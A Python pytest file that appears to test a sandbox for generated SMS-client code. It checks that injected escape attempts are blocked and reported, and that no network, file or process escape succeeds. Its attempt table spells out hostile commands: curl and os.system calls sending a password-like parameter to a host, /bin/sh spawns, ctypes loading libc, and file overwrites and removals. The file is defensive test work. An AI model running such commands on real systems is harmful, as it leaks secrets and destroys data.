"""Whatever a copy tries, nothing leaves this machine, and its owner is told.

Everything is tried against a server on loopback that stands for the rest of the world.
"""

from __future__ import annotations

import os
import socket
import textwrap
from pathlib import Path
from typing import Any, Dict, Iterator

import pytest

from smsc_transports.compare.gateway import Certificates, Gateway
from smsc_transports.compare.program import Call, Fields, Program
from smsc_transports.compare.recorded.case import SENT

THREAD = """
from threading import Thread
thread = Thread(target=socket.create_connection, args=[(HOST, PORT)])
thread.start()
thread.join()
"""
ATTEMPTS = {
    "socket": ("socket.create_connection((HOST, PORT))", "a connection to HOST:PORT"),
    "connect_ex": ("socket.socket().connect_ex((HOST, PORT))", "a connection to HOST:PORT"),
    "a socket by hand": (
        "import _socket; _socket.socket(2, 1).connect((HOST, PORT))",
        "a socket of the module _socket",
    ),
    "a method by hand": (
        "import _socket; _socket.socket.connect(socket.socket(), (HOST, PORT))",
        "a connection to ('HOST', PORT)",
    ),
    "urllib": (
        "import urllib.request; urllib.request.urlopen('http://%s:%d/' % (HOST, PORT))",
        "a connection to HOST:PORT",
    ),
    "http.client": (
        "import http.client; http.client.HTTPConnection(HOST, PORT).request('GET', '/')",
        "a connection to HOST:PORT",
    ),
    "smtplib": ("import smtplib; smtplib.SMTP(HOST, PORT)", "a connection to HOST:PORT"),
    "asyncio": (
        "import asyncio; asyncio.run(asyncio.open_connection(HOST, PORT))",
        "a connection to HOST:PORT",
    ),
    "requests": (
        "import requests; requests.get('http://%s:%d/' % (HOST, PORT))",
        "a connection to HOST:PORT",
    ),
    "a packet": (
        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', (HOST, PORT))",
        "a packet to ('HOST', PORT)",
    ),
    "a packet by sendmsg": (
        "socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, (HOST, PORT))",
        "a packet to ('HOST', PORT)",
    ),
    "a Unix socket": ("socket.socket(socket.AF_UNIX).connect(FILE)", "a connection to 'FILE'"),
    "gethostbyname": ("socket.gethostbyname('sms.example')", "a look-up of sms.example"),
    "gethostbyaddr": ("socket.gethostbyaddr('192.0.2.1')", "a look-up of 192.0.2.1"),
    "a reloaded socket module": (
        "import importlib; importlib.reload(socket).getaddrinfo('sms.example', 80)",
        "a look-up of sms.example",
    ),
    "curl": (
        "import subprocess; subprocess.run(['curl', 'http://%s:%d/?psw=x' % (HOST, PORT)])",
        "starting a program: curl",
    ),
    "curl by a shell": (
        "os.system('curl http://%s:%d/?psw=x' % (HOST, PORT))",
        "starting a program: curl",
    ),
    "popen": ("os.popen('curl http://x')", "starting a program: /bin/sh"),
    "exec": ("os.execv('/bin/sh', ['sh', '-c', 'exit'])", "starting a program: /bin/sh"),
    "spawn": (
        "os.posix_spawn('/bin/sh', ['sh', '-c', 'exit'], {})",
        "starting a program: /bin/sh",
    ),
    "pty": ("import pty; pty.spawn(['curl', 'x'])", "starting a program: curl"),
    "fork": ("os.fork()", "a second process"),
    "multiprocessing": (
        "import multiprocessing as m; m.get_context('spawn').Process(target=print).start()",
        "a second process",
    ),
    "a library": ("import ctypes; ctypes.CDLL('libc.so.6')", "the library libc.so.6"),
    "Python as a library": (
        "import ctypes; ctypes.CDLL(None).connect",
        "the function connect of a library",
    ),
    "pycurl": ("import pycurl", "the module pycurl"),
    "a thread": (THREAD, "a connection to HOST:PORT"),
    "a file to write": ("open(FILE, 'w').write('gone')", "writing to 'FILE'"),
    "a file by its number": ("os.open(FILE, os.O_WRONLY | os.O_TRUNC)", "writing to 'FILE'"),
    "a file to remove": ("os.remove(FILE)", "os.remove: FILE"),
    "a database": ("import sqlite3; sqlite3.connect(FILE)", "the database 'FILE'"),
}  # fmt: skip


@pytest.fixture
def world() -> Iterator[socket.socket]:
    """A server that everybody could reach, and nobody may."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        yield server


def run(folder: Path, code: str, names: Dict[str, Any], gateway: Gateway) -> Fields:
    """Run code in the place of a send; what its process tells."""
    head = "".join(f"{name} = {value!r}\n" for name, value in names.items())
    body = textwrap.indent(code, " " * 8)
    copy = folder / "smsc_api.py"
    copy.write_text(
        f"import os, socket\n{head}class SMSC:\n    def send_sms(self):\n{body}\n", "utf-8"
    )
    environment = {"PATH": os.environ["PATH"], "PYTHONWARNINGS": "ignore"}
    with Program(copy, {}, environment) as program:
        return program.call(Call("send_sms"), gateway)


@pytest.fixture(scope="module")
def certificates() -> Certificates:
    return Certificates()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_world_is_not_reached_and_the_attempt_is_told(
    attempt: str, world: socket.socket, certificates: Certificates, tmp_path: Path
) -> None:
    code, refused = ATTEMPTS[attempt]
    file = tmp_path / "precious"
    file.write_text("kept", "utf-8")
    host, port = world.getsockname()
    with Gateway([], certificates) as gateway:
        told = run(tmp_path, code, {"HOST": host, "PORT": port, "FILE": str(file)}, gateway)
    for name, value in (("HOST", host), ("PORT", str(port)), ("FILE", str(file))):
        refused = refused.replace(name, value)
    assert refused in told["refused"]
    with pytest.raises(BlockingIOError):
        world.accept()
    assert file.read_text("utf-8") == "kept"
    assert gateway.wire == []


REACHED = {
    "another host": "import urllib.request; r = urllib.request.urlopen('http://sms.example/x')",
    "an address": "import urllib.request; r = urllib.request.urlopen('http://192.0.2.1/x')",
    "a socket": "s = socket.create_connection(('sms.example', 80)); "
    "s.sendall(b'GET /x HTTP/1.0\\r\\n\\r\\n'); r = s.makefile('rb')",
    "a socket to an address": "s = socket.socket(); s.connect(('192.0.2.1', 80)); "
    "s.sendall(b'GET /x HTTP/1.0\\r\\n\\r\\n'); r = s.makefile('rb')",
}


@pytest.mark.parametrize("how", REACHED)
def test_every_host_is_the_gateway(how: str, certificates: Certificates, tmp_path: Path) -> None:
    with Gateway([SENT], certificates) as gateway:
        told = run(tmp_path, REACHED[how] + "\nreturn r.read().decode()[-17:]", {}, gateway)
    assert told["result"] == "1234,1,0.50,99.50"
    (attempt,) = gateway.wire
    assert attempt["to"] in ("http://sms.example", "http://192.0.2.1")
    assert attempt["sent"] == "GET /x"


@pytest.mark.parametrize("sent", [b"GET /x HTTP/1.0\r\nHost: a", b"GET", b"\x16\x03\r\n"])
def test_a_client_that_leaves_in_the_middle_holds_nothing_up(
    sent: bytes, certificates: Certificates, tmp_path: Path
) -> None:
    code = f"with socket.create_connection(('smsc.ua', 80)) as s: s.sendall({sent!r})"
    with Gateway([SENT], certificates) as gateway:
        told = run(tmp_path, code, {}, gateway)
    assert told["result"] is None
    assert [attempt["to"] for attempt in gateway.wire] == ["http://smsc.ua"]


def test_a_log_file_is_opened_and_stays_empty(certificates: Certificates, tmp_path: Path) -> None:
    log = tmp_path / "sms.log"
    code = f"with open({str(log)!r}, 'a') as log: log.write('sent')\nreturn 'written'"
    with Gateway([], certificates) as gateway:
        told = run(tmp_path, code, {}, gateway)
    assert told["result"] == "written"
    assert told["refused"] == [f"writing to {str(log)!r}"]
    assert not log.exists()


def test_a_second_call_may_not_use_the_address_of_the_first(
    certificates: Certificates, tmp_path: Path
) -> None:
    copy = tmp_path / "smsc_api.py"
    copy.write_text(
        "import socket\nclass SMSC:\n"
        "    def send_sms(self):\n"
        "        SMSC.address = socket.getaddrinfo('smsc.ua', 80)[0][4]\n"
        "    def get_balance(self):\n"
        "        socket.create_connection(SMSC.address)\n",
        "utf-8",
    )
    with Program(copy, {}, {}) as program:
        with Gateway([SENT], certificates) as gateway:
            program.call(Call("send_sms"), gateway)
        told = program.call(Call("get_balance"), gateway)
    assert told["raises"] == "PermissionError"
